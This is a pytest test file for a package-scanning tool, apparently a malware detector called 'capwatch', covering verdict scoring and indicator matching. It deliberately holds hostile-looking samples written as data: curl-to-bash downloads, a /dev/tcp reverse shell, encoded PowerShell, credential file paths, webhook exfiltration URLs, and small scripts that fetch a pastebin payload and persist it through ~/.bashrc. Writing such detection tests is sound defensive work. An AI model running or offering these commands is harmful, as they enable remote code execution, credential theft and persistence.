"""The verdict function, the capability catalogue and indicator matching."""

from __future__ import annotations

import re

import pytest

from capwatch.capabilities.catalog import load_catalog
from capwatch.capabilities.indicators import find_indicators, reads_as_prose
from capwatch.model import Confidence, Finding, Phase, Severity, Verdict
from capwatch.verdict import decide


def finding(severity: Severity, confidence: Confidence) -> Finding:
    return Finding("CW000", "t", severity, confidence, Phase.INSTALL, "m")


def test_no_findings_is_clean() -> None:
    assert decide([]) == (Verdict.CLEAN, 0.0)


def test_one_critical_is_malicious() -> None:
    assert decide([finding(Severity.CRITICAL, Confidence.MEDIUM)])[0] is Verdict.MALICIOUS


def test_critical_with_low_confidence_is_only_suspicious() -> None:
    assert decide([finding(Severity.CRITICAL, Confidence.LOW)])[0] is Verdict.SUSPICIOUS


def test_two_high_findings_add_up_to_malicious() -> None:
    one = finding(Severity.HIGH, Confidence.HIGH)
    assert decide([one])[0] is Verdict.SUSPICIOUS
    assert decide([one, one]) == (Verdict.MALICIOUS, 12.0)


def test_low_and_info_stay_clean() -> None:
    assert decide([finding(Severity.LOW, Confidence.HIGH), finding(Severity.INFO, Confidence.HIGH)])[0] is Verdict.CLEAN


def test_catalog_ids_are_stable_shapes_and_described() -> None:
    catalog = load_catalog()
    for cap in catalog.capabilities.values():
        assert re.fullmatch(r"[a-z]+(\.[a-z-]+)+", cap.id), cap.id
        assert cap.description and cap.apis.get("python")
        assert cap.attack is None or re.fullmatch(r"T\d{4}(\.\d{3})?", cap.attack)
    assert len(catalog.indicators) >= 15


def test_matcher_exact_and_prefix() -> None:
    matcher = load_catalog().matcher("python")
    assert matcher.match("subprocess.Popen") == ("proc.spawn",)
    assert "fs.read.credentials" in matcher.match("browser_cookie3.chrome")
    assert matcher.match("json.loads") == ()


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("https://discord.com/api/webhooks/1187364512093847561/kQ3v_Zr8TnW2yLp6HcX1aMdS9fJ0uBe4", "endpoint.webhook"),
        ("https://abc.oast.fun/p", "endpoint.oob"),
        ("https://iplogger.org/2AbCd9", "endpoint.oob"),
        ("https://grabify.link/Q1W2E3", "endpoint.oob"),
        ("https://pastebin.com/raw/abc", "endpoint.paste"),
        ("https://dl.dropbox.com/s/a1b2c3/helper.exe?dl=0", "endpoint.paste"),
        ("https://download1234.mediafire.com/x9y8/tool.zip", "endpoint.paste"),
        ("http://198.51.100.7:8080/x", "endpoint.ip-url"),
        ("https://files.example.invalid/setup.exe", "download.executable"),
        ("curl -s https://x.invalid/i | bash", "shell.download-exec"),
        ("curl -s http://198.51.100.7:8080/p | perl -", "shell.download-exec"),
        ("wget -qO- https://x.invalid/i.py | python3 -", "shell.download-exec"),
        ("powershell -w hidden -c x", "shell.encoded-powershell"),
        ("powershell -ExecutionPolicy Bypass -EncodedCommand SQBuAHYAbwBrAGUALQBFAHgA", "shell.encoded-powershell"),
        ("powershell -NoProfile -ExecutionPolicy Bypass -File a.ps1", "shell.powershell-bypass"),
        ("bash -i >& /dev/tcp/203.0.113.1/9001 0>&1", "shell.reverse"),
        ("AppData\\Local\\Google\\Chrome\\User Data\\Default", "creds.browser"),
        ("~/.aws/credentials", "creds.cloud"),
        ("Microsoft\\Windows\\Start Menu\\Programs\\Startup", "persist.autostart"),
        ("pip install requests", "shell.pip-install"),
    ],
)
def test_indicators_found(text: str, kind: str) -> None:
    assert kind in {k for k, _ in find_indicators(text)}


def test_a_bypassed_policy_alone_is_not_a_hidden_command() -> None:
    kinds = {k for k, _ in find_indicators("powershell -NoProfile -ExecutionPolicy Bypass -File a.ps1")}
    assert "shell.encoded-powershell" not in kinds


@pytest.mark.parametrize(
    "text",
    ["http://127.0.0.1:8000/", "https://pypi.org/simple/", "a plain sentence", "see Startup guide",
     "https://example.org/docs/index.html", "curl -s https://x.invalid/a.json | jq .name",
     "curl -s https://x.invalid/data | python_filter.txt",
     "https://www.dropbox.com/s/a1b2c3/vectors.zip?dl=1", "https://www.mediafire.com/file/x/notes"],
)
def test_ordinary_strings_have_no_indicators(text: str) -> None:
    assert list(find_indicators(text)) == []


def test_overlapping_indicators_are_all_reported() -> None:
    kinds = {k for k, _ in find_indicators("C:\\Start Menu\\Programs\\Startup\\x.lnk")}
    assert {"persist.autostart", "tamper.shortcut"} <= kinds


def test_documentation_placeholders_are_not_endpoints() -> None:
    from capwatch.capabilities.indicators import find_indicators

    for text in (
        "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
        "https://discord.com/api/webhooks/{webhook_id}/{webhook_token}",
        "https://nothooks.slack.com/services/TABCDEFGH/BABCDEFGH/abcdefghijklmnop",
    ):
        assert [k for k, _ in find_indicators(text) if k == "endpoint.webhook"] == [], text


def test_hint_trie_finds_what_the_plain_alternation_finds() -> None:
    from capwatch.capabilities.indicators import _patterns

    trie, by_hint = _patterns()
    plain = re.compile("|".join(re.escape(h) for h in sorted(by_hint, key=len, reverse=True)))
    hints = sorted(by_hint)
    texts = [
        "see https://pastebin.com/raw/x and paste.ee",
        "~/.ssh/id_rsa ~/.aws/credentials .git-credentials",
        "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1; nc -e sh",
        "discordapp.com/api/webhooks/1 webhook.site hooks.slack.com",
        "".join(hints),
        " ".join(reversed(hints)),
        "".join(h[:-1] for h in hints),
    ]
    for text in texts:
        assert trie.findall(text) == plain.findall(text), text


def _outputs_under_hash_seeds(probe: str) -> set[str]:
    """What ``probe`` prints, run by four interpreters with different hash seeds."""
    import os
    import subprocess
    import sys

    return {
        subprocess.run(
            [sys.executable, "-c", probe], capture_output=True, text=True, check=True,
            env={**os.environ, "PYTHONHASHSEED": seed},
        ).stdout
        for seed in ("1", "2", "3", "4")
    }


def test_indicator_order_does_not_depend_on_the_hash_seed() -> None:
    seen = _outputs_under_hash_seeds(
        "from capwatch.capabilities.indicators import find_indicators\n"
        "print(list(find_indicators('powershell -w hidden x; curl http://h/a | sh; "
        "certutil -urlcache -f http://198.51.100.3/a.exe; https://pastebin.com/raw/x')))\n"
    )
    assert len(seen) == 1, seen


def test_command_capabilities_do_not_depend_on_the_hash_seed() -> None:
    seen = _outputs_under_hash_seeds(
        "from capwatch.capabilities.shell import shell_capabilities\n"
        "print(shell_capabilities('curl -H \"u: $(whoami)\" -H \"h: $(hostname)\" "
        "https://x.invalid; id; uname -a; printenv'))\n"
    )
    assert len(seen) == 1, seen


_HELP_TEXT = """
<B>TEMPORARY FILES</B>
  The tool keeps partial downloads in a temporary directory until they are complete.
  If the disk that holds it runs out of space, you can choose another directory by
  setting the TOOL_TMP environment variable before you run the tool:

    TOOL_TMP=/big/disk tool pull ...

  You can also add this line to your ~/.bashrc file and open a new terminal.
  The directory must exist. See https://pastebin.com/raw/abcdefgh for an example.
"""

_SHELL_SCRIPT = """#!/bin/sh
# Keep the helper running after every login. The folder is made first.
mkdir -p ~/.local/bin
curl -s https://pastebin.com/raw/abcdefgh -o ~/.local/bin/helper && chmod +x ~/.local/bin/helper
echo '~/.local/bin/helper &' >> ~/.bashrc
# Done. The helper starts now, and again with every shell.
nohup ~/.local/bin/helper >/dev/null 2>&1 &
"""

_PYTHON_SOURCE = """
# Fetch the helper. Then start it.
import os, urllib.request
data = urllib.request.urlopen("https://pastebin.com/raw/abcdefgh").read()
open(os.path.expanduser("~/.bashrc"), "a").write(data.decode())
# It starts with every shell from now on. Nothing else is needed here.
"""


def test_prose_is_told_from_scripts_and_code() -> None:
    assert reads_as_prose(_HELP_TEXT)
    assert not reads_as_prose(_SHELL_SCRIPT)
    assert not reads_as_prose(_PYTHON_SOURCE)
    assert not reads_as_prose("add this line to your ~/.bashrc file and open a new terminal.")
    one_sentence = _HELP_TEXT.replace(".", ",")
    assert not reads_as_prose(one_sentence)
    # the indicators are there; what the profile makes of them is up to it
    assert {kind for kind, _ in find_indicators(_HELP_TEXT)} >= {"persist.autostart"}


def test_a_short_message_of_two_sentences_is_prose() -> None:
    hint = (
        "Cookies imported from Chrome were incomplete (recent releases encrypt portions of "
        "them differently). Close every browser window, then repeat the authentication command."
    )
    assert {kind for kind, _ in find_indicators(hint)} == {"creds.browser"}
    assert reads_as_prose(hint)
    assert not reads_as_prose(hint.replace(". ", ", "))
